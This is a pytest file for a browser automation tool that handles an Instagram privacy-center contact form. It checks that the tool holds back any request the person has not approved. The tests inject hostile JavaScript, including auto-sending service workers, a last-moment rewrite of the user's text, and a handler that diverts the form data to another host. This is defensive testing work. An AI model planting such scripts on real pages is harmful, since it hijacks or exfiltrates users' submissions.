"""Promise: it never submits. Counted at the server that plays the site."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from automation.recording import Recording, load
from elsewhere import wait_for
from tls_site import Arrived, Site

SENT = "/ajax/help/contact/submit/page"
READ = "fb_api_req_friendly_name=ContactFormContentQuery"
HOSTILE = (Path(__file__).parent / "pages" / "hostile.js").read_text(encoding="utf-8")
# Once: it may be started anew by the page that answers, when the person has pressed.
WORKER = f"""caches.has("once").then((had) => had || caches.open("once").then(() =>
  fetch("{SENT}", {{ method: "POST", body: "from a worker" }})));"""


class Counting:
    """The site with a hostile form: its worker's script, and what came that could be the form."""

    def __init__(self, site: Site) -> None:
        self.site, plain = site, site.answer

        def answer(request: Arrived) -> tuple[int, dict[str, str], str]:
            if request.path == "/worker.js":
                site.arrived.append(request)
                return 200, {"Content-Type": "text/javascript"}, WORKER
            read = request.path == "/api/graphql/" and request.body.startswith(READ)
            if read or request.path == "/validate":
                site.arrived.append(request)
                return 200, {"Content-Type": "application/json"}, "{}"
            return plain(request)

        site.answer = answer  # type: ignore[method-assign]  # this test's site has more to tell

    def came(self) -> list[str]:
        """What arrived that could be a submission: all but pages, leads and reads."""
        plain = {"/worker.js", "/favicon.ico"}
        return [
            f"{a.method} {a.path} {a.body[:40]}"
            for a in self.site.arrived
            if not (a.method == "GET" and "?" not in a.path and a.path != "/socket")
            and not a.path.startswith("/__lead/")
            and a.path not in plain
            and not (a.path == "/api/graphql/" and a.body.startswith(READ))
        ]

    def carrying(self) -> list[str]:
        """What arrived with a value of the person in it, in any of the usual guises."""
        marks = ("anna", "YW5uYUBleGFtcGxl", "object+to", "object%20to", "object to")
        return [a.path for a in self.site.arrived if any(m in a.path + a.body for m in marks)]


def hostile(recording: Recording) -> Recording:
    """The recording with a form that cannot wait."""
    return scripted(recording, f'<iframe name="aside" hidden></iframe><script>{HOSTILE}</script>')


def scripted(recording: Recording, script: str) -> Recording:
    """The recording with this at the end of its form page, and no CSP that would stop it."""
    pages = tuple(
        replace(page, html=page.html.replace("</body>", "</body>" + script), headers={})
        if page.name == "form"
        else page
        for page in recording.pages
    )
    return replace(recording, pages=pages)


def held(report: dict[str, Any]) -> list[tuple[str, str, str]]:
    """What the bundle's log says was held back: method, host, path."""
    lines = (Path(report["evidence"]) / "data" / "log.jsonl").read_text().splitlines()
    events = [json.loads(line) for line in lines]
    return [(e["method"], e["host"], e["path"]) for e in events if e["event"] == "held back"]


@pytest.mark.long
def test_only_the_persons_submission_arrives(started: Callable[..., Any]) -> None:
    """A page that sends by itself at load, on focus, on input and all the time sends nothing.

    Neither before the hand-over nor after it, until the person presses Submit: then exactly
    theirs arrives. Its GraphQL read passes. What was held is in the log, by host and path.
    """
    site, run, page = started(hostile(load("instagram-privacy-center-en")))
    counting = Counting(site)
    run.told("Read it, change what you like")
    form = page("contact/")
    form.wait_for_timeout(1_500)
    assert counting.came() == []
    assert counting.carrying() == []
    assert form.locator("html").get_attribute("data-read") == "200"

    submit = form.get_by_role("button", name="Submit")
    submit.hover()
    # What the page has under way at the press would go with it.
    form.wait_for_function("window.underWay === 0")
    form.wait_for_timeout(500)
    submit.click()
    report = run.report()

    assert report["outcome"] == "sent"
    assert [line.split()[:2] for line in counting.came()] == [["POST", SENT]], counting.came()
    told = held(report)
    assert ("POST", "help.instagram.com", SENT) in told
    assert ("SOCKET", "help.instagram.com", "/socket") in told
    assert not [path for _, _, path in told if "?" in path]


# Once the person's mouse is on the button, the page changes what they are about to send.
BEFORE_THE_PRESS = """<script>
document.addEventListener("pointerover", (event) => {
  if (!event.isTrusted || event.target.type !== "submit" || window.done) return;
  window.done = true;
  const form = document.querySelector("form");
  const box = document.querySelector("textarea[data-testid]");
  %s
}, true);
</script>"""
REWORDS = BEFORE_THE_PRESS % 'box.value = "I agree to everything.";'
REPLACES = BEFORE_THE_PRESS % "form.replaceWith(form.cloneNode(true));"
MOVES = BEFORE_THE_PRESS % (
    'const other = document.createElement("form"); other.action = "/elsewhere"; '
    'other.method = "post"; form.before(other); other.append(...form.childNodes);'
)


@pytest.mark.deep
@pytest.mark.parametrize(
    "script",
    [
        REWORDS,
        pytest.param(REPLACES, marks=pytest.mark.deep),
        pytest.param(MOVES, marks=pytest.mark.deep),
    ],
    ids=["text", "form", "moved"],
)
def test_what_the_page_changes_is_reviewed_again(started: Callable[..., Any], script: str) -> None:
    """A page that changes text or form at the last moment sends nothing at that press.

    The person is told what has changed, and sends it by pressing again. Were a press taken
    without comparing, the changed form would arrive at the first one.
    """
    site, run, page = started(scripted(load("instagram-privacy-center-en"), script))
    run.told("Read it, change what you like")
    form = page("contact/")
    place = form.get_by_role("button", name="Submit").bounding_box()
    assert place
    form.mouse.click(place["x"] + 20, place["y"] + 10)  # at once, as the change comes
    form.wait_for_timeout(300)
    assert site.sent() == []
    run.told("the page itself has changed: ")

    form.get_by_role("button", name="Submit").click()
    wait_for(site.sent, "the submission")
    form.wait_for_timeout(500)
    form.close()

    assert len(site.sent()) == 1


DIVERTS = """<script>
document.querySelector("form").addEventListener("submit", (event) => {
  event.stopImmediatePropagation();
  event.preventDefault();
  fetch("https://www.example.org/objections", { method: "POST", mode: "no-cors",
    body: new URLSearchParams(new FormData(event.target)) });
}, true);
</script>"""


@pytest.mark.deep
def test_what_was_filled_goes_to_no_other_host(started: Callable[..., Any]) -> None:
    """A press that a page answers by sending the form to another host sends nothing there."""
    _, run, page = started(scripted(load("instagram-privacy-center-en"), DIVERTS))
    run.told("Read it, change what you like")
    form = page("contact/")
    form.get_by_role("button", name="Submit").click()
    form.wait_for_timeout(500)
    form.close()
    report = run.report()

    assert report["outcome"] == "left"
    assert ("POST", "www.example.org", "/…") in held(report)


SECOND = """<a href="https://help.instagram.com/contact/767264225370182#2" target="_blank">More</a>
<script>
// It is over before the tab is closed: what is held in that moment may go.
let left = location.hash === "#2" ? 15 : 0;
const sending = setInterval(
  () => (left-- > 0 ? fetch("/second", { method: "POST" }) : clearInterval(sending)), 100);
</script>"""


@pytest.mark.deep
def test_a_press_opens_one_page_only(started: Callable[..., Any]) -> None:
    """While the person has pressed in one tab, another one that sends by itself stays held.

    With one gate for all pages, the second tab's requests arrive.
    """
    site, run, page = started(scripted(load("instagram-privacy-center-en"), SECOND))
    run.told("Read it, change what you like")
    form = page("contact/767264225370182$")
    form.get_by_text("More", exact=True).click()
    second = page("#2")
    second.wait_for_timeout(1_000)
    form.get_by_role("heading", name="Object to your information").click()
    second.wait_for_timeout(1_000)
    second.close()
    form.close()
    report = run.report()

    assert [a.path for a in site.arrived if a.path == "/second"] == []
    assert ("POST", "help.instagram.com", "/…") in held(report)


IN_TWO_STEPS = """<script>
document.querySelector("form").addEventListener("submit", async (event) => {
  event.stopImmediatePropagation();
  event.preventDefault();
  const body = new URLSearchParams(new FormData(event.target));
  await fetch("/validate", { method: "POST", body });
  setTimeout(() => fetch(event.target.action, { method: "POST", body }), 1500);
}, true);
</script>"""


@pytest.mark.deep
def test_a_press_lasts_for_what_follows_it(started: Callable[..., Any]) -> None:
    """A form that is first validated and sent a moment later is sent by one press.

    Were a press forgotten when the person is told something else, the second step would be held.
    """
    site, run, page = started(scripted(load("instagram-privacy-center-en"), IN_TWO_STEPS))
    Counting(site)
    run.told("Read it, change what you like")
    page("contact/").get_by_role("button", name="Submit").click()
    report = run.report()

    assert report["outcome"] == "sent"
    assert [a.path for a in site.sent()] == ["/validate", SENT]


# A send button as single-page apps draw it; and a page that takes typing for its chance.
DRAWN_BUTTON = """<script>
{
  const native = document.querySelector("form [type=submit]");
  const drawn = document.createElement("div");
  drawn.textContent = "Submit";
  drawn.setAttribute("role", "button");
  drawn.tabIndex = 0;
  const send = () => fetch(drawn.form.action, { method: "POST",
    body: new URLSearchParams(new FormData(drawn.form)) });
  drawn.form = native.form;
  drawn.addEventListener("keydown", (event) => {
    if (event.key === "Enter" || event.key === " ") { event.preventDefault(); send(); }
  });
  native.replaceWith(drawn);
  const frame = document.createElement("iframe");
  document.body.append(frame);
  frame.contentDocument.body.append(frame.contentDocument.createElement("input"));
  document.querySelector("textarea[data-testid]").addEventListener("input", () => {
    setTimeout(() => frame.contentDocument.querySelector("input").focus(), 50);
    setTimeout(send, 800);
  });
}
</script>"""


@pytest.mark.deep
@pytest.mark.parametrize("key", ["Enter", pytest.param("Space", marks=pytest.mark.deep)])
def test_keys_on_a_drawn_button_send_and_typing_does_not(
    key: str, started: Callable[..., Any]
) -> None:
    """Enter or Space on an element with the role of a button is a press; typing is none.

    Not even where the page moves the focus into a frame, as a press in a frame does. Were every
    activation in a frame taken for one, what the page then sends would arrive.
    """
    site, run, page = started(scripted(load("instagram-privacy-center-en"), DRAWN_BUTTON))
    run.told("Read it, change what you like")
    form = page("contact/")
    form.get_by_role("textbox", name=re.compile("impacts you")).press("x")
    form.wait_for_timeout(1_500)
    assert site.sent() == []

    form.get_by_role("button", name="Submit").press(key)
    report = run.report()

    assert report["outcome"] == "sent"
    assert [a.path for a in site.sent()] == [SENT]
